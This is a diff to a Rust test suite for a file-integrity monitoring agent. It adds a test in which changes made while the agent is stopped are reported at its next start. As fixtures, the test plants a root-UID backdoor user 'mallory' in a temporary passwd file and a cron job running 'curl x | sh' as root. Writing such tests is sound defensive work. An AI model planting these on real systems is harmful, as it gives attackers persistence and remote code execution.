@@ -1,7 +1,9 @@
 //! File integrity on a temporary tree: every kind of change to a watched
 //! file or below a watched directory becomes one event naming the path and
 //! what changed, including edits by rename (as editors save) and a file
-//! deleted and created again. Waits are bounded (5 s per event).
+//! deleted and created again; and, with a state directory, changes made
+//! while the watch was stopped are reported when it starts again. Waits
+//! are bounded (5 s per event).
 
 use std::os::unix::fs::PermissionsExt;
 use std::path::{Path, PathBuf};
@@ -41,7 +43,19 @@ struct Watched {
 
 async fn watch_tree() -> Watched {
     let dir = tempfile::tempdir().unwrap();
-    let etc = dir.path().join("etc");
+    let etc = make_tree(dir.path());
+    let (rx, fim, cancel) = start(&etc, None).await;
+    Watched {
+        etc,
+        rx,
+        fim,
+        cancel,
+        _dir: dir,
+    }
+}
+
+fn make_tree(dir: &Path) -> PathBuf {
+    let etc = dir.join("etc");
     std::fs::create_dir_all(etc.join("cron.d")).unwrap();
     std::fs::write(etc.join("passwd"), "root:x:0:0:root:/root:/bin/bash\n").unwrap();
     std::fs::set_permissions(etc.join("passwd"), std::fs::Permissions::from_mode(0o644)).unwrap();
@@ -51,6 +65,15 @@ async fn watch_tree() -> Watched {
         "0 2 * * * root /usr/local/bin/backup\n",
     )
     .unwrap();
+    etc
+}
+
+/// Watches `etc/passwd` and `etc/cron.d` (recursive) until the returned
+/// token is cancelled.
+async fn start(
+    etc: &Path,
+    state_dir: Option<&Path>,
+) -> (mpsc::Receiver<AgentEvent>, FileIntegrity, CancellationToken) {
     let config = FimConfig {
         paths: vec![
             WatchPath {
@@ -68,23 +91,17 @@ async fn watch_tree() -> Watched {
     assert!(config.validate().is_empty());
     let (tx, rx) = mpsc::channel(64);
     let cancel = CancellationToken::new();
-    let fim = FileIntegrity::start(&config, tx, cancel.clone()).unwrap();
+    let fim = FileIntegrity::start(&config, state_dir, tx, cancel.clone()).unwrap();
     tokio::time::timeout(WAIT, fim.ready())
         .await
         .expect("first states taken");
-    Watched {
-        etc,
-        rx,
-        fim,
-        cancel,
-        _dir: dir,
-    }
+    (rx, fim, cancel)
 }
 
 fn counted(fim: &FileIntegrity, path: &Path) -> f64 {
     fim.families()
         .into_iter()
-        .find(|f| f.name == "patrol_fim_changes_total")
+        .find(|f| f.name == "patrol_fim_events_total")
         .and_then(|f| {
             f.series
                 .into_iter()
@@ -243,4 +260,106 @@ async fn a_watched_directory_removed_and_made_again_is_watched_again() {
         "{e:?}"
     );
     w.cancel.cancel();
+}
+
+#[tokio::test]
+async fn changes_made_while_the_watch_was_stopped_are_reported_at_its_next_start() {
+    let dir = tempfile::tempdir().unwrap();
+    let etc = make_tree(dir.path());
+    let state = dir.path().join("state");
+    let passwd = etc.join("passwd");
+    let before = std::fs::read(&passwd).unwrap();
+
+    // First start: states taken and kept, nothing to report.
+    let (mut rx, fim, cancel) = start(&etc, Some(&state)).await;
+    assert!(
+        tokio::time::timeout(Duration::from_millis(500), rx.recv())
+            .await
+            .is_err(),
+        "a first start reports nothing"
+    );
+    assert_eq!(
+        counted(&fim, &passwd),
+        0.0,
+        "the counter exists from the start"
+    );
+    cancel.cancel();
+    tokio::time::timeout(WAIT, fim.stopped())
+        .await
+        .expect("the watch stops");
+    drop((rx, fim));
+
+    // While stopped: an edit, a chmod, a new cron job, a deleted one.
+    let after = b"root:x:0:0:root:/root:/bin/bash\nmallory:x:0:0::/:/bin/sh\n";
+    std::fs::write(&passwd, after).unwrap();
+    let cron = etc.join("cron.d");
+    std::fs::write(cron.join("evil"), "* * * * * root curl x | sh\n").unwrap();
+    std::fs::remove_file(cron.join("backup")).unwrap();
+
+    let (mut rx, fim, cancel) = start(&etc, Some(&state)).await;
+    let mut messages = Vec::new();
+    for _ in 0..3 {
+        messages.push(next(&mut rx).await.message);
+    }
+    messages.sort();
+    let mut want = [
+            format!(
+                "{} modified: content sha256 {} → {} (while the agent was stopped)",
+                passwd.display(),
+                sha256(&before),
+                sha256(after)
+            ),
+            format!(
+                "{}/backup deleted (was file, sha256 {}, mode {:04o}, owner {}) (while the agent was stopped)",
+                cron.display(),
+                sha256(b"0 2 * * * root /usr/local/bin/backup\n"),
+                0o644 & !umask(),
+                owner(),
+            ),
+            format!(
+                "{}/evil created: file, sha256 {}, mode {:04o}, owner {} (while the agent was stopped)",
+                cron.display(),
+                sha256(b"* * * * * root curl x | sh\n"),
+                0o666 & !umask(),
+                owner(),
+            ),
+        ];
+    want.sort();
+    assert_eq!(messages, want);
+    assert_eq!(counted(&fim, &passwd), 1.0);
+    assert_eq!(counted(&fim, &cron), 2.0);
+    cancel.cancel();
+    tokio::time::timeout(WAIT, fim.stopped())
+        .await
+        .expect("the watch stops");
+    drop((rx, fim));
+
+    // Reported once: the third start finds nothing new.
+    let (mut rx, _fim, cancel) = start(&etc, Some(&state)).await;
+    assert!(
+        tokio::time::timeout(Duration::from_millis(500), rx.recv())
+            .await
+            .is_err(),
+        "nothing changed since the last start"
+    );
+    cancel.cancel();
+}
+
+/// The process umask, read without changing it (other tests run alongside).
+fn umask() -> u32 {
+    std::fs::read_to_string("/proc/self/status")
+        .ok()
+        .and_then(|s| {
+            let line = s.lines().find(|l| l.starts_with("Umask:"))?;
+            u32::from_str_radix(line.split_whitespace().nth(1)?, 8).ok()
+        })
+        .unwrap_or(0o022)
+}
+
+fn owner() -> String {
+    format!(
+        "{}:{}",
+        rustix::process::getuid().as_raw(),
+        rustix::process::getgid().as_raw()
+    )
 }
